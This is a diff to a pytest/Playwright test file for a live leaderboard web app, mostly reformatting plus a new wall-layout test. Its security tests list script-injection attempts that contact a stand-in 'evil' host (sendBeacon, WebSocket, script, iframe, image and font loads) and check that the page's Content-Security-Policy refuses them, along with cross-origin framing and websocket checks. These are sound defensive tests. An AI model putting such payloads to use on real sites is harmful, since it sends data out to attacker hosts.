@@ -12,6 +12,7 @@ import pytest
 import requests
 from playwright.sync_api import Browser, Page
 
+from games.score import GAME, TOP_PLAYERS
 from tests.conftest import page_server
 
 NAMES = [
@@ -40,7 +41,9 @@ class Answer(BaseHTTPRequestHandler):
         self.send_response(200)
         self.send_header("Content-Type", "text/html")
         self.end_headers()
-        self.wfile.write(f"<h1>Free points</h1><iframe src='{self.server.framed}'></iframe>".encode())
+        self.wfile.write(
+            f"<h1>Free points</h1><iframe src='{self.server.framed}'></iframe>".encode()
+        )
 
     def log_message(self, *_: object) -> None:
         pass
@@ -57,9 +60,9 @@ def serving(server: ThreadingHTTPServer) -> Iterator[None]:
 
 @pytest.fixture(scope="module")
 def evil() -> Iterator[Evil]:
-    made = Evil()
-    with serving(made):
-        yield made
+    opened = Evil()
+    with serving(opened):
+        yield opened
 
 
 @contextmanager
@@ -78,27 +81,30 @@ def address(evil: Evil) -> Iterator[str]:
 @pytest.fixture(scope="module")
 def page(browser: Browser, address: str) -> Page:
     """A browser's page that shows the boards."""
-    made = browser.new_page()
-    made.goto(address)
-    await_boards(made)
-    return made
+    opened = browser.new_page()
+    opened.goto(address)
+    await_boards(opened)
+    return opened
 
 
 def await_boards(page: Page) -> None:
+    last = len(GAME.boards) * len(NAMES) - 1
     page.get_by_text("LIVE", exact=True).wait_for(timeout=60_000)
-    page.locator("table.ranks tbody th").nth(4 * len(NAMES) - 1).wait_for(timeout=60_000)
+    page.locator("table.ranks tbody th").nth(last).wait_for(timeout=60_000)
 
 
 def test_names_make_no_request_and_run_nothing(browser, address, evil):
     evil.asked.clear()
     asked, errors = [], []
-    made = browser.new_page()
-    made.on("request", lambda request: asked.append(request.url))
-    made.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
-    made.goto(address)
-    await_boards(made)
-    made.wait_for_load_state("networkidle")
-    made.close()
+    opened = browser.new_page()
+    opened.on("request", lambda request: asked.append(request.url))
+    opened.on(
+        "console", lambda message: errors.append(message.text) if message.type == "error" else None
+    )
+    opened.goto(address)
+    await_boards(opened)
+    opened.wait_for_load_state("networkidle")
+    opened.close()
     own = (address, "data:", "blob:")
     assert len(asked) > 10
     assert [url for url in asked if not url.startswith(own)] == []
@@ -113,17 +119,31 @@ def test_names_make_no_request_and_run_nothing(browser, address, evil):
         ("new WebSocket(evil.replace('http', 'ws'))", "connect-src"),
         ("navigator.sendBeacon(evil)", "connect-src"),
         ("document.body.append(Object.assign(new Image(), {src: evil}))", "img-src"),
-        ("document.body.append(Object.assign(document.createElement('script'), {src: evil}))", "script-src-elem"),
-        ("document.body.append(Object.assign(document.createElement('script'), {text: '1'}))", "script-src-elem"),
+        (
+            "document.body.append(Object.assign(document.createElement('script'), {src: evil}))",
+            "script-src-elem",
+        ),
+        (
+            "document.body.append(Object.assign(document.createElement('script'), {text: '1'}))",
+            "script-src-elem",
+        ),
         ("document.body.setAttribute('onclick', '1'); document.body.click()", "script-src-attr"),
-        ("document.body.append(Object.assign(document.createElement('iframe'), {src: evil}))", "frame-src"),
-        ("document.fonts.load('1em evil', document.fonts.add(new FontFace('evil', `url(${evil})`)))", "font-src"),
+        (
+            "document.body.append(Object.assign(document.createElement('iframe'), {src: evil}))",
+            "frame-src",
+        ),
+        (
+            "document.fonts.load('1em evil', "
+            "document.fonts.add(new FontFace('evil', `url(${evil})`)))",
+            "font-src",
+        ),
     ],
 )
 def test_what_got_in_all_the_same_is_refused_by_the_browser(page, evil, attempt, directive):
     evil.asked.clear()
     refused = f"""evil => new Promise((tell, fail) => {{
-        document.addEventListener('securitypolicyviolation', event => tell(event.effectiveDirective), {{once: true}})
+        document.addEventListener(
+            'securitypolicyviolation', event => tell(event.effectiveDirective), {{once: true}})
         setTimeout(() => fail('nothing was refused'), 10000)
         {attempt}
     }})"""
@@ -133,31 +153,44 @@ def test_what_got_in_all_the_same_is_refused_by_the_browser(page, evil, attempt,
 
 def test_another_site_cannot_frame_the_page(browser, address, evil):
     evil.framed = address
-    made = browser.new_page()
+    opened = browser.new_page()
     refused = []
-    made.on("console", lambda message: refused.append(message.text) if "frame-ancestors" in message.text else None)
-    made.goto(evil.address)
+    opened.on(
+        "console",
+        lambda message: refused.append(message.text) if "frame-ancestors" in message.text else None,
+    )
+    opened.goto(evil.address)
     assert refused
-    assert not made.frames[1].get_by_text("Live leaderboards").count()
-    made.close()
+    assert not opened.frames[1].get_by_text("Live leaderboards").count()
+    opened.close()
 
 
-@pytest.mark.parametrize(("origin", "answer"), [("{own}", 101), ("http://evil.example", 403), ("null", 403)])
+@pytest.mark.parametrize(
+    ("origin", "answer"), [("{own}", 101), ("http://evil.example", 403), ("null", 403)]
+)
 def test_another_site_cannot_drive_the_page(address, origin, answer):
     """Who may ban must not do so for a site that is open in the next tab."""
-    headers = {"Connection": "Upgrade", "Upgrade": "websocket", "Origin": origin.format(own=address)}
+    headers = {
+        "Connection": "Upgrade",
+        "Upgrade": "websocket",
+        "Origin": origin.format(own=address),
+    }
     headers |= {"Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}
-    with requests.get(f"{address}/_stcore/stream", headers=headers, stream=True, timeout=10) as asked:
+    with requests.get(
+        f"{address}/_stcore/stream", headers=headers, stream=True, timeout=10
+    ) as asked:
         assert asked.status_code == answer
 
 
 def test_a_refresh_leaves_the_keyboard_where_it_is(page):
-    link = page.locator(".top_players table a").first
+    link = page.locator(f".{TOP_PLAYERS.name} table a").first
     link.focus()
     page.evaluate("() => window.focused = document.activeElement")
     for _ in range(3):
         await_refresh(page)
-    assert page.evaluate("() => document.activeElement.tagName == 'A' && document.activeElement === window.focused")
+    assert page.evaluate(
+        "() => document.activeElement.tagName == 'A' && document.activeElement === window.focused"
+    )
 
 
 def await_refresh(page: Page) -> None:
@@ -165,7 +198,8 @@ def await_refresh(page: Page) -> None:
     page.evaluate(
         """() => new Promise((tell, fail) => {
             new MutationObserver((_, observer) => { observer.disconnect(); tell() }).observe(
-                document.querySelector('.facts'), {subtree: true, characterData: true, childList: true})
+                document.querySelector('.facts'),
+                {subtree: true, characterData: true, childList: true})
             setTimeout(() => fail('no refresh'), 30000)
         })"""
     )
@@ -174,14 +208,30 @@ def await_refresh(page: Page) -> None:
 @pytest.mark.parametrize("width", [390, 1400, 3840])
 @pytest.mark.parametrize("view", ["", "?view=wall", "?top=100"])
 def test_nothing_is_cut_off_at_the_side(browser, address, width, view):
-    made = browser.new_page(viewport={"width": width, "height": width * 9 // 16 if width > 400 else 844})
-    made.goto(address + view, timeout=120_000)
-    await_boards(made)
-    assert made.evaluate("document.documentElement.scrollWidth") <= width
+    opened = browser.new_page(
+        viewport={"width": width, "height": width * 9 // 16 if width > 400 else 844}
+    )
+    opened.goto(address + view, timeout=120_000)
+    await_boards(opened)
+    assert opened.evaluate("document.documentElement.scrollWidth") <= width
     wider = """cells => cells.filter(cell => cell.scrollWidth > cell.clientWidth + 1
         && getComputedStyle(cell).textOverflow != 'ellipsis').length"""
-    assert made.locator("table.ranks th, table.ranks td").evaluate_all(wider) == 0
-    made.close()
+    assert opened.locator("table.ranks th, table.ranks td").evaluate_all(wider) == 0
+    opened.close()
+
+
+@pytest.mark.parametrize(
+    ("width", "height"), [(1280, 720), (1920, 1080), (1600, 1200), (3840, 2160)]
+)
+def test_all_boards_fit_on_a_wall(browser, address, width, height):
+    wall = browser.new_page(viewport={"width": width, "height": height})
+    wall.goto(f"{address}?view=wall", timeout=120_000)
+    await_boards(wall)
+    assert wall.locator(".panel").count() == len(GAME.boards)
+    fits = "() => [...document.querySelectorAll('.panel')].every(is_inside)"
+    is_inside = "panel => panel.getBoundingClientRect().bottom <= innerHeight"
+    wall.wait_for_function(fits.replace("is_inside", is_inside), timeout=60_000)
+    wall.close()
 
 
 def test_every_answer_has_the_headers(address):
